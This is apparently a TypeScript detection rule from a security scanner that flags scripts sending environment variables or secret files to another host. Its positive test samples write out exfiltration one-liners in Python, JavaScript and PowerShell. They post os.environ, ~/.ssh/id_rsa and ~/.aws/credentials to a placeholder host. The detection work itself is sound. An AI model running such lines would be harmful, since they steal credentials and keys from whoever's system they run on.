import type { Rule } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { SECRET_FILE } from '../shell_syntax.ts';
import { EXFIL_COMMAND } from './format.ts';

/** Scripts that send secrets. */
export const SCRIPT_RULES: readonly Rule[] = [
  {
    ...EXFIL_COMMAND,
    id: 'script_sends_secrets',
    confidence: 'medium',
    source: 'https://attack.mitre.org/techniques/T1041/',
    keywords: [
      'requests.post(',
      'requests.put(',
      'httpx.post(',
      'urlopen(',
      'json.stringify(process.env)',
      'readfilesync(',
      '-infile',
      '-body (',
      '-body $(',
      'httpx.put(',
    ],
    expression: expression(
      'gi',
      '(?:',
      [
        String.raw`(?:(?:requests|httpx)\.(?:post|put)|urlopen)\([^\r\n]{3,160}?(?:os\.environ(?![.[])|(?<![a-z])open\([\\"']{1,4}[^\r\n"']{0,60}?${SECRET_FILE})`,
        String.raw`(?:\bfetch|\.(?:get|post|put|request))\([^\r\n]{3,160}?(?:JSON\.stringify\(process\.env\)|readFileSync\([^\r\n)]{0,60}?${SECRET_FILE})`,
        String.raw`(?<![\w-])(?:iwr|irm|invoke-webrequest|invoke-restmethod|curl)[ \t][^\r\n;|]{1,160}?(?:-infile[ \t]{1,4}|-body[ \t]{1,4}\$?\((?:(?:get-childitem|gci|dir|ls)[ \t]env:|(?:get-content|gc|cat|type)[ \t]))[^\r\n;|)]{0,60}?(?:${SECRET_FILE}|(?<=env:)(?=[ \t|)]))`,
      ].join('|'),
      ')',
      String.raw`[^\r\n]{0,60}`,
    ),
    reach: { before: 190, after: 300 },
    describes: 'A script that sends the environment or a file of secrets to another host.',
    get finds() {
      return [
        'requests.post("http://x.example", json=dict(os.environ))',
        'requests.post(u, data=open("/home/u/.ssh/id_rsa").read())',
        'fetch("https://x.example",{method:"POST",body:JSON.stringify(process.env)})',
        'iwr http://x.example -Method POST -InFile $HOME/.ssh/id_rsa',
        'irm http://x.example -Method Post -Body (Get-Content ~/.aws/credentials)',
      ];
    },
    get ignores() {
      return [
        'requests.post(url, headers={"A": os.environ["TOKEN"]})',
        'requests.post(url, data=open("a.csv"))',
        'fetch(url, {headers: {a: process.env.A}})',
        'fs.readFileSync(".env")',
      ];
    },
  },
];
